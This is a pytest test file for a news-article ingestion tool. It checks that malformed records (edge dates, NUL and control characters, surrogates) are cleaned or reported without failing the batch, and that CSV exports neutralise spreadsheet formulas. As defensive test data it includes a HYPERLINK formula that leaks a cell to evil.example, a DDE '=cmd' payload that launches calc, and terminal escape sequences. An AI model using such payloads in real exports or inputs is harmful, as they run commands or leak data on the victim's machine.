"""Issue #18 item 1: one hostile record never sinks a batch.

Dates at the edge of the calendar with an offset, NUL and other control characters, unpaired
surrogates: every other record of the batch is stored, and each bad one is named (file and record).
Run on both stores: PostgreSQL refuses NUL in text, SQLite does not.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest

from crosswire import api
from crosswire.ingest import IngestOptions, read_file
from crosswire.ingest.datetimes import parse_datetime as parse_written_date
from crosswire.ingest.fields import clean_text_fields, parse_datetime, strip_controls, utc_range_problem
from crosswire.model import Article, Problem
from crosswire.store import codec, open_store
from ingest_samples import PARAGRAPHS
from store_support import backend_url

BODY = " ".join(PARAGRAPHS[:2])
HIGH = "9999-12-31T23:59:59-23:59"
LOW = "0001-01-01T00:00:00+14:00"


@pytest.fixture(params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)])
def db_url(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[str]:
    yield from backend_url(request.param, tmp_path)


def jsonl_batch(folder: Path) -> Path:
    records = [
        {"id": "good-1", "title": "Good one", "text": BODY + " One.", "published": "2019-06-01T08:00:00+09:00"},
        {"id": "edge-high", "title": "High edge", "text": BODY + " Two.", "published": HIGH},
        {"id": "edge-low", "title": "Low edge", "text": BODY + " Three.", "updated": LOW},
        {"id": "nul", "title": "Nul\u0000 title", "text": BODY + " Four.\u0000 End.", "published": "2019-06-02"},
        {"id": "lone", "title": "Surrogate", "text": BODY + " Five \ud800 end.", "published": "2019-06-03"},
        {"id": "escape", "title": "\u001b]0;owned\u0007\u001b[2JTitle", "text": BODY + " Six.", "authors": ["A\u001b[31m"]},
        {"id": "year5", "title": "Five-digit year", "text": BODY + " Seven.", "published": "99999-01-01"},
        {"id": "good-2", "title": "Good two", "text": BODY + " Eight.", "published": "2019-06-04"},
    ]  # fmt: skip
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "batch.jsonl"
    # ensure_ascii keeps "\ud800" as the JSON escape a scraper would write
    path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    return path


def other_formats(folder: Path) -> Path:
    """The same edge dates through HTML meta, RSS pubDate (with an &#0;), Atom updated, front matter."""
    folder.mkdir(parents=True, exist_ok=True)
    paragraphs = "".join(f"<p>{p}</p>" for p in PARAGRAPHS)
    (folder / "page.html").write_text(
        f'<html><head><title>Edge page</title><meta property="article:published_time" content="{HIGH}">'
        f"</head><body><article><h1>Edge page</h1>{paragraphs}</article></body></html>",
        encoding="utf-8",
    )
    (folder / "feed.xml").write_text(
        '<?xml version="1.0"?><rss version="2.0"><channel><title>Wire</title><link>https://wire.example/</link>'
        f"<item><title>Good item</title><link>https://wire.example/1</link>"
        f"<pubDate>Tue, 04 Jun 2019 08:00:00 GMT</pubDate><description>{BODY}</description></item>"
        f"<item><title>Edge item</title><link>https://wire.example/2</link>"
        f"<pubDate>Fri, 31 Dec 9999 23:59:59 -2359</pubDate><description>{BODY} Two.</description></item>"
        f"<item><title>Nul item</title><link>https://wire.example/3</link>"
        f"<description>{BODY} Three &#0; end.</description></item></channel></rss>",
        encoding="utf-8",
    )
    (folder / "atom.xml").write_text(
        '<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"><title>Atom</title>'
        '<link href="https://atom.example/"/><updated>2019-06-04T08:00:00Z</updated>'
        f'<entry><title>Atom edge</title><link href="https://atom.example/1"/><id>urn:edge</id>'
        f'<updated>{LOW}</updated><content type="html">{BODY} Atom.</content></entry></feed>',
        encoding="utf-8",
    )
    (folder / "front.txt").write_text(
        f"---\ntitle: Front edge\npublished: {HIGH}\n---\n{BODY} Front.\n", encoding="utf-8"
    )
    (folder / "plain.txt").write_text(f"Plain title\n\n{BODY} Plain.\n", encoding="utf-8")
    return folder


def test_a_jsonl_batch_with_hostile_records_stores_every_record(tmp_path: Path, db_url: str) -> None:
    path = jsonl_batch(tmp_path / "in")
    summary = api.ingest([path], db=db_url)
    assert summary.counts["errors"] == 0 and summary.counts["added"] == 8, summary.problems
    warnings = {p.message for p in summary.problems}
    assert all(p.path == str(path) for p in summary.problems)

    def about(record: str) -> list[str]:
        return [w for w in warnings if w.startswith(f"record '{record}': ")]

    assert any(
        "published date 9999-12-31T23:59:59-23:59 is outside the calendar" in w for w in about("edge-high")
    )
    assert any(
        "updated date 0001-01-01T00:00:00+14:00 is outside the calendar" in w for w in about("edge-low")
    )
    assert any("control character" in w for w in about("nul")) and any("control" in w for w in about("lone"))
    assert any("published '99999-01-01' is not a date" in w for w in about("year5"))
    assert not about("good-1") and not about("good-2")
    with open_store(db_url) as store:
        stored = {a.external_id: a for a in store.iter_articles()}
    assert stored["edge-high"].published is None and stored["edge-low"].updated is None
    assert stored["year5"].published is None  # not 9999-01-01
    assert stored["good-1"].published.isoformat() == "2019-06-01T08:00:00+09:00"
    assert "\x00" not in stored["nul"].text and stored["nul"].title == "Nul title"
    assert "\ud800" not in stored["lone"].text
    assert stored["escape"].title == "]0;owned [2JTitle" and stored["escape"].authors == ["A [31m"]


def test_other_formats_with_edge_dates_are_stored_beside_good_files(tmp_path: Path, db_url: str) -> None:
    folder = other_formats(tmp_path / "in")
    manifest = tmp_path / "manifest.toml"
    manifest.write_text(f'[[article]]\npath = "plain.txt"\npublished = "{LOW}"\n', encoding="utf-8")
    summary = api.ingest([folder], db=db_url, manifest=manifest)
    assert summary.counts["errors"] == 0, summary.problems
    assert summary.counts["added"] == 7  # html, three feed items, one atom entry, front matter, plain
    by_file: dict[str, list[str]] = {}
    for problem in summary.problems:
        by_file.setdefault(Path(problem.path).name, []).append(problem.message)
    assert any("published date 9999-12-31T23:59:59-23:59" in m for m in by_file["page.html"])
    assert any(m.startswith("record 'https://wire.example/2': published date") for m in by_file["feed.xml"])
    assert any(
        m.startswith("record 'https://wire.example/3': removed 1 control") for m in by_file["feed.xml"]
    )
    assert any(m.startswith("record 'urn:edge': ") and LOW in m for m in by_file["atom.xml"])
    assert any("published date 9999-12-31T23:59:59-23:59" in m for m in by_file["front.txt"])
    assert any("published date 0001-01-01T00:00:00+14:00" in m for m in by_file["plain.txt"])


def test_no_date_is_read_as_another_one(tmp_path: Path) -> None:
    # A signed year is year -1, not 1; an RFC 822 year written 0001 is not 2001; a date missing its day
    # or month is not completed from the day crosswire runs; "4:26 PM" is not 04:26.
    for text in (
        "-0001-01-01",
        "+0001-01-01T00:00:00",
        "Mon, 01 Jan 0001 00:00:00 +1400",
        "Thu, 01 Jan 0099 00:00:00 +0000",
        "2020",
        "March 2020",
        "yesterday",
        "3 days ago",
        "Sat, 07 Mar 2026 08:00:99999999999900 +0800",  # found by the feed fuzz target: OverflowError
    ):
        assert parse_datetime(text) is None, text
        if "," not in text:  # the dateline reader reads "01 Jan 0001" as year 1, which is no misreading
            assert parse_written_date(text) is None, text
    assert parse_datetime("April 29, 2019 4:26 PM") == datetime(2019, 4, 29, 16, 26)
    assert parse_datetime("01 Jan 99 00:00 GMT") == datetime(1999, 1, 1, tzinfo=UTC)  # RFC 822's two digits
    assert parse_datetime("Tue, 04 Jun 2019 08:00:00 GMT") == datetime(2019, 6, 4, 8, tzinfo=UTC)
    records = [
        {"id": "signed", "text": BODY + " One.", "published": "-0001-01-01"},
        {"id": "year-only", "text": BODY + " Two.", "published": "2020"},
    ]
    (tmp_path / "batch.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    (tmp_path / "feed.xml").write_text(
        '<?xml version="1.0"?><rss version="2.0"><channel><title>Wire</title>'
        "<item><title>Year one</title><link>https://wire.example/1</link>"
        f"<pubDate>Mon, 01 Jan 0001 00:00:00 +1400</pubDate><description>{BODY}</description></item>"
        "</channel></rss>",
        encoding="utf-8",
    )
    for name, records_named in (
        ("batch.jsonl", ["signed", "year-only"]),
        ("feed.xml", ["https://wire.example/1"]),
    ):
        articles = list(read_file(tmp_path / name, IngestOptions()))
        assert [a.published for a in articles] == [None] * len(records_named), articles
        for article, record in zip(articles, records_named, strict=True):
            assert any("is not a date crosswire can read" in w for w in article.warnings), (
                record,
                article.warnings,
            )


def test_a_record_the_store_refuses_is_named_and_the_rest_stored(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Whatever a record holds that the readers did not foresee, the store refusing it costs that
    # record only: the batch is saved again one article at a time.
    path = jsonl_batch(tmp_path / "in")
    real = codec.article_row

    def refuse_one(article: Article) -> dict:
        if article.external_id == "good-2":
            raise ValueError("a value the database cannot hold")
        return real(article)

    monkeypatch.setattr(codec, "article_row", refuse_one)
    db = str(tmp_path / "cw.db")
    summary = api.ingest([path], db=db)
    assert summary.exit_code == 1 and summary.counts["added"] == 7
    [error] = [p for p in summary.problems if p.severity == "error"]
    assert error.path == str(path)
    assert error.message == "record 'good-2': cannot be stored: a value the database cannot hold"
    with open_store(db) as store:
        assert store.count_articles() == 7
    # The file is not marked as read in the file cache: the refused record is tried again next run.
    monkeypatch.setattr(codec, "article_row", real)
    again = api.ingest([path], db=db)
    assert again.counts["added"] == 1 and again.counts["cached_files"] == 0


def test_a_store_fault_is_still_a_store_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # A failing store is not a bad record: the run stops with exit 3, as before.
    from crosswire.store.core import SqlStore as Store
    from crosswire.store.engine import StoreError

    def broken(self, items, fingerprints=()):
        raise StoreError(f"{self.url}: saving articles failed: disk I/O error")

    monkeypatch.setattr(Store, "save_articles", broken)
    with pytest.raises(api.StoreError, match="disk I/O error"):
        api.ingest([jsonl_batch(tmp_path / "in")], db=str(tmp_path / "cw.db"))


def test_the_cleaning_functions() -> None:
    assert strip_controls("a\x00b\x1b[31mc\x0cd\ud800e\x85f\tg\nh") == ("ab[31mc\ndef\tg\nh", 4)
    assert utc_range_problem(None) is None
    assert utc_range_problem(parse_written_date("2019-04-29 16:26 KST")) is None
    assert "outside the calendar" in (utc_range_problem(parse_written_date(HIGH)) or "")
    assert parse_written_date("99999-01-01") is None  # the year is not read from inside a longer number
    # An ISO 8601 expanded year is no year 1 or 2019, and a zone that cannot be is not dropped quietly
    # (the time would be read hours off): each is no date, left out with a warning.
    for written in (
        "-0001-01-01",
        "+2019-01-01",
        "\u22122019-01-01",
        "2019-01-01T10:00+25:00",
        "2019-01-01 10:00 UTC+15",
    ):
        assert parse_written_date(written) is None, written
    assert parse_written_date("2019-01-01T10:00+14:00") == datetime(
        2019, 1, 1, 10, tzinfo=timezone(timedelta(hours=14))
    )
    article = Article(text="Body\x00 text", title="\x1b[1mBold\x1b[0m\nline", authors=["\x07"])
    clean_text_fields(article)
    assert article.text == "Body text" and article.title == "[1mBold [0m line" and article.authors == []
    assert article.warnings and "control character" in article.warnings[0]


def test_one_article_files_are_read_with_the_edge_date_left_out(tmp_path: Path) -> None:
    page = other_formats(tmp_path / "in") / "page.html"
    [article] = [a for a in read_file(page, IngestOptions()) if not isinstance(a, Problem)]
    assert article.published is None
    assert any(w.startswith("published date 9999-12-31T23:59:59-23:59") for w in article.warnings)


def test_the_store_sorts_edge_dates_instead_of_overflowing(tmp_path: Path) -> None:
    # A caller of the Python API can hand the store any datetime: it is kept, and sorts at the end
    # of the calendar rather than stopping the batch with "date value out of range".
    high, low = parse_written_date(HIGH), parse_written_date(LOW)
    assert codec.to_utc_naive(high) == codec.datetime.max and codec.to_utc_naive(low) == codec.datetime.min
    with open_store(str(tmp_path / "cw.db")) as store:
        result = store.save_articles(
            [Article(text=BODY, title="High", published=high), Article(text=BODY + " Low.", published=low)]
        )
        assert result.added == 2
        assert [dict(row)["title"] for row in store.list_articles(limit=5)][0] == "High"


def test_csv_exports_never_hand_a_spreadsheet_a_formula(tmp_path: Path) -> None:
    # Issue #18 item 6: a title such as =HYPERLINK(...) would run when the CSV is opened.
    import csv

    from crosswire.export import export_articles
    from crosswire.export.cells import spreadsheet_safe
    from crosswire.export.events import write_event_table
    from story_support import event

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    articles = [
        Article(text=BODY, title=formula, outlet="+Outlet", authors=["@someone", "-dash"]),
        Article(text=BODY + " Two.", title="\t=1+1", outlet="Plain Outlet"),
    ]
    path, count = export_articles(articles, tmp_path, "csv")
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert count == 2 and rows[0]["title"] == "'" + formula and rows[0]["outlet"] == "'+Outlet"
    assert rows[0]["authors"] == "'@someone; -dash" and rows[1]["title"] == "'\t=1+1"
    assert rows[1]["outlet"] == "Plain Outlet" and int(rows[0]["word_count"]) > 10
    source = articles[0]
    table = tmp_path / "events.csv"
    phrase = BODY.split(".")[0]
    write_event_table([event(source, phrase, ("=cmd|' /C calc'!A0", "PRK"), ("Russia", "RUS"), "040")], table)
    with table.open(encoding="utf-8", newline="") as handle:
        cells = [value for row in csv.reader(handle) for value in row]
    assert not any(value.startswith(("=", "+", "@")) for value in cells)
    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe("North Korea") == "North Korea"


@pytest.mark.parametrize("reference", ["&#27;[2J", "&#x1B;]0;owned&#7;", "&#1;", "&#xFFFE;"])
def test_an_html_page_with_a_control_character_reference_keeps_its_text(
    tmp_path: Path, reference: str
) -> None:
    # One `&#27;` in a headline or paragraph made trafilatura give up on the whole page, which was
    # then refused as "HTML page holds no article text (only navigation, scripts or markup)".
    paragraphs = "".join(f"<p>{p}</p>" for p in PARAGRAPHS)
    for where, page in (
        ("headline", f"<article><h1>Talks{reference} resume</h1>{paragraphs}</article>"),
        ("body", f"<article><h1>Talks resume</h1><p>Officials{reference} said so.</p>{paragraphs}</article>"),
    ):
        path = tmp_path / f"{where}.html"
        path.write_text(
            f"<html><head><title>Talks</title></head><body>{page}</body></html>", encoding="utf-8"
        )
        [article] = list(read_file(path, IngestOptions()))
        assert isinstance(article, Article), (where, article)
        assert PARAGRAPHS[0][:40] in article.text and (article.title or "").startswith("Talks")
        assert not any(ord(ch) < 32 and ch not in "\n\t" for ch in article.text + (article.title or ""))


@pytest.mark.parametrize("written", ["99999-01-01", "Fri, 31 Dec 9999 23:59:59 -2359", "-0001-01-01", "soon"])
def test_a_front_matter_date_that_cannot_be_read_is_left_out_with_a_warning(
    tmp_path: Path, written: str
) -> None:
    # Like a JSONL record's: the article is kept, the date left out and named (it refused the file).
    path = tmp_path / "front.txt"
    path.write_text(
        f"---\ntitle: Front page\npublished: {json.dumps(written)}\n---\n{BODY}\n", encoding="utf-8"
    )
    [article] = list(read_file(path, IngestOptions()))
    assert isinstance(article, Article) and article.title == "Front page" and article.published is None
    assert any(w.startswith("front matter published") and "left out" in w for w in article.warnings)


def test_an_unreadable_html_meta_date_is_named_not_passed_over(tmp_path: Path) -> None:
    # "99999-01-01" in article:published_time was dropped without a word (the page read as undated).
    paragraphs = "".join(f"<p>{p}</p>" for p in PARAGRAPHS)
    path = tmp_path / "page.html"
    path.write_text(
        '<html><head><meta property="article:published_time" content="99999-01-01"></head>'
        f"<body><article><h1>Edge page</h1>{paragraphs}</article></body></html>",
        encoding="utf-8",
    )
    [article] = list(read_file(path, IngestOptions()))
    assert isinstance(article, Article) and article.published is None
    assert any("'99999-01-01'" in w and "not a date crosswire can read" in w for w in article.warnings)


@pytest.mark.parametrize(
    "written", ["99999-01-01", "-0001-01-01T00:00:00Z", "Mon, 09 Mar 99999 10:00:00 GMT", "soon"]
)
def test_a_feed_date_that_cannot_be_read_is_named_not_misread(tmp_path: Path, written: str) -> None:
    # feedparser's own reading, taken when crosswire's failed, made "99999-01-01" 9999-12-01 and
    # "-0001-..." year 1; an unreadable date was dropped without a word.
    rss = tmp_path / "feed.xml"
    rss.write_text(
        '<?xml version="1.0"?><rss version="2.0"><channel><title>Wire</title><link>https://wire.example/</link>'
        f"<item><title>Item</title><link>https://wire.example/1</link><pubDate>{written}</pubDate>"
        f"<description>{BODY}</description></item></channel></rss>",
        encoding="utf-8",
    )
    atom = tmp_path / "feed.atom"
    atom.write_text(
        '<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"><title>Wire</title>'
        f'<entry><title>Item</title><id>urn:x</id><link href="https://wire.example/2"/><updated>{written}</updated>'
        f'<content type="html">{BODY}</content></entry></feed>',
        encoding="utf-8",
    )
    for path in (rss, atom):
        [article] = list(read_file(path, IngestOptions()))
        assert isinstance(article, Article) and article.published is None, (path.name, article.published)
        assert any(repr(written) in w and "not a date crosswire can read" in w for w in article.warnings)


def test_a_jsonl_date_with_a_sign_is_no_year_one(tmp_path: Path) -> None:
    path = tmp_path / "signed.jsonl"
    record = {"id": "signed", "title": "Signed year", "text": BODY, "published": "-0001-01-01"}
    path.write_text(json.dumps(record) + "\n", encoding="utf-8")
    [article] = list(read_file(path, IngestOptions()))
    assert isinstance(article, Article) and article.published is None
    assert any("'-0001-01-01' is not a date crosswire can read" in w for w in article.warnings)


def test_a_number_is_a_unix_time_only_where_it_can_be_one():
    # seconds and milliseconds since 1970 (APIs and JavaScript write both) are the same moment
    moment = datetime(2019, 4, 29, 7, 26, tzinfo=UTC)
    assert parse_datetime(int(moment.timestamp())) == moment
    assert parse_datetime(int(moment.timestamp()) * 1000) == moment
    assert parse_datetime(moment.timestamp() * 1000 + 250) == moment.replace(microsecond=250000)
    # a year or a compact date given as a number is no moment in January 1970
    for number in (2019, 20190429, 0, -5, float("nan")):
        assert parse_datetime(number) is None, number


def test_a_jsonl_date_given_as_a_number_is_read_as_a_moment_only_where_it_is_one(tmp_path):
    records = [
        {"id": "year", "text": BODY + " One.", "published": 2019},
        {"id": "millis", "text": BODY + " Two.", "published": 1556522760000},
    ]
    path = tmp_path / "numbers.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    year, millis = [a for a in read_file(path, IngestOptions()) if isinstance(a, Article)]
    assert year.published is None  # not 1970-01-01T00:33:39
    assert millis.published == datetime(2019, 4, 29, 7, 26, tzinfo=UTC)
